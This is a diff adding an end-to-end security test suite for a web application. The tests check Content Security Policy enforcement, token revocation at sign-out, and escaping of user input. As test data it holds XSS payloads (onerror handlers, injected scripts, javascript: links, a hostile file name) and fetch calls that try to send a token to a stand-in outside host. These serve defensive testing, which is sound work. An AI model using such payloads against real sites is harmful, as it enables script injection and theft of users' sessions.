@@ -1,0 +1,169 @@
+import type { Page } from 'playwright';
+import { expect } from 'vitest';
+import { siteRoutes } from '../../frontend/site-routes.ts';
+import { hostileTexts } from '../security/hostile.ts';
+import { callDirectly, enterAs } from '../support/demo-people.ts';
+import { test } from '../support/e2e.ts';
+import {
+  becomeApplicant,
+  mailsTo,
+  newPerson,
+  openCase,
+  sees,
+  signIn,
+  signOut,
+} from '../support/people-in-browser.ts';
+import { samplePdf } from '../support/sample-files.ts';
+
+const pages = siteRoutes.map(({ path }) => path.replaceAll(/:\w+/g, () => crypto.randomUUID()));
+
+/** Tells of every violated policy, also of those that no console shows. */
+async function watchPolicy(page: Page): Promise<string[]> {
+  const violations: string[] = [];
+  await page.exposeFunction('tellViolation', (text: string) => void violations.push(text));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, documentURI }) => {
+      const tell = Reflect.get(window, 'tellViolation');
+      if (typeof tell === 'function') tell(`${documentURI}: ${violatedDirective} ${blockedURI}`);
+    });
+  });
+  return violations;
+}
+
+test('no page violates its own policy, for a visitor', { timeout: 180_000 }, async ({ visit }) => {
+  const visitor = await visit();
+  visitor.expectConsole(/status of 40[0-9]/);
+  const violations = await watchPolicy(visitor.page);
+  for (const path of pages) {
+    await visitor.page.goto(path);
+    await visitor.page.getByRole('main').first().waitFor();
+  }
+  expect(violations).toEqual([]);
+});
+
+test('no page violates its own policy, for an admin', { timeout: 180_000 }, async ({ visit }) => {
+  const visitor = await visit();
+  visitor.expectConsole(/status of 40[0-9]/);
+  const violations = await watchPolicy(visitor.page);
+  await enterAs(visitor.page, 'ADMIN');
+  for (const path of [
+    '/dashboard',
+    '/employer',
+    '/consultations',
+    '/admin',
+    '/profile',
+    '/cases',
+    '/consultation',
+  ]) {
+    await visitor.page.goto(path);
+    await visitor.page.getByRole('main').first().waitFor();
+    await visitor.page.waitForLoadState('networkidle');
+  }
+  expect(violations).toEqual([]);
+});
+
+test('a script that was slipped in does not run, nor can anything be sent elsewhere', async ({ visit }) => {
+  const visitor = await visit();
+  visitor.expectConsole(
+    /Content Security Policy/,
+    /Refused to/,
+    /request to https:\/\/elsewhere/,
+    /status of 404/,
+  );
+  const { page } = visitor;
+  const violations = await watchPolicy(page);
+  await page.goto('/');
+  await page.evaluate(() => {
+    const inline = document.createElement('script');
+    inline.textContent = 'window.ran = "inline"';
+    const remote = document.createElement('script');
+    remote.src = 'https://elsewhere.example/steal.js';
+    const data = document.createElement('script');
+    data.src = 'data:text/javascript,window.ran="data"';
+    document.body.append(inline, remote, data);
+    document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="window.ran=\'handler\'">');
+    document.body.insertAdjacentHTML('beforeend', '<a id="bad" href="javascript:window.ran=1">x</a>');
+    document.getElementById('bad')?.click();
+  });
+  const sent = await page.evaluate(async () => {
+    try {
+      await fetch('https://elsewhere.example/?token=x', { mode: 'no-cors' });
+      return 'sent';
+    } catch {
+      return 'refused';
+    }
+  });
+  expect(sent).toBe('refused');
+  await expect.poll(() => violations.length).toBeGreaterThanOrEqual(5);
+  expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
+});
+
+test('signing out ends the tokens and every other tab', { timeout: 180_000 }, async ({ visit }) => {
+  const visitor = await visit();
+  visitor.expectConsole(/status of 40[01]/);
+  const { page } = visitor;
+  const person = newPerson('Tove Lind');
+  await becomeApplicant(page, person);
+  const other = await page.context().newPage();
+  await other.goto('/profile');
+  await sees(other, person.email);
+
+  const kept = await page.evaluate(() =>
+    Object.fromEntries(Object.entries(localStorage).map(([key, value]) => [key.split('.').at(-1), value])),
+  );
+  const read = () =>
+    page.request.get('/api/profile', { headers: { authorization: `Bearer ${kept.accessToken}` } });
+  expect((await read()).status()).toBe(200);
+
+  await signOut(page);
+  await other.waitForURL(/\/auth/);
+  await expect.poll(async () => (await read()).status()).toBe(401);
+  const { userPoolClientId } = await (await page.request.get('/config.json')).json();
+  const refreshed = await page.request.post('/cognito-idp/', {
+    headers: {
+      'content-type': 'application/x-amz-json-1.1',
+      'x-amz-target': 'AWSCognitoIdentityProviderService.GetTokensFromRefreshToken',
+    },
+    data: JSON.stringify({ RefreshToken: kept.refreshToken, ClientId: userPoolClientId }),
+  });
+  expect([refreshed.status(), (await refreshed.json()).message]).toEqual([
+    400,
+    'Refresh Token has been revoked',
+  ]);
+  const left = await page.evaluate(() =>
+    Object.values(localStorage).filter((value) => value.startsWith('eyJ')),
+  );
+  expect(left).toEqual([]);
+
+  await page.goto('/auth');
+  await signIn(page, person);
+  await page.waitForURL('/dashboard');
+});
+
+test('what people type comes back as text: page, mail, file name', { timeout: 180_000 }, async ({
+  visit,
+}) => {
+  const visitor = await visit();
+  visitor.expectConsole(/status of 40[0-9]/);
+  const { page } = visitor;
+  const bad = '"><img src=x onerror="window.ran=1"><script>window.ran=1</script>';
+  const person = { ...newPerson('Hostile Name'), fullName: bad };
+  await becomeApplicant(page, person);
+  const casePage = await openCase(page, 'United States', 'US O-1A');
+  const fileName = '<img src=x onerror=window.ran=1>.pdf';
+  await page.locator('input[type=file]').first().setInputFiles(samplePdf(fileName));
+  await sees(page, fileName);
+  for (const text of hostileTexts) {
+    const { status } = await callDirectly(page, 'PATCH', '/api/profile', { full_name: text });
+    expect(status).toBeLessThan(500);
+  }
+  await callDirectly(page, 'PATCH', '/api/profile', { full_name: bad });
+  for (const path of ['/dashboard', '/profile', casePage]) {
+    await page.goto(path);
+    await page.getByRole('main').first().waitFor();
+    await page.waitForLoadState('networkidle');
+    expect(await page.locator('img[src="x"]').count(), path).toBe(0);
+    expect(await page.evaluate(() => Reflect.get(window, 'ran')), path).toBeUndefined();
+  }
+  for (const { html } of await mailsTo(page, person.email)) expect(html).not.toMatch(/<img src=x|<script/);
+});
